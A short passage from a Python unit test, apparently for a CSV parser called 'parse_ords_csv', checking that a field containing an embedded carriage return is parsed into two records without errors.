    result = parse_ords_csv(newline.join([lines[0], row, lines[2]]) + newline)
    assert result.errors == []
    assert len(result.records) == 2
    assert result.records[0].problem is not None
    assert "a year,\r and" in result.records[0].problem
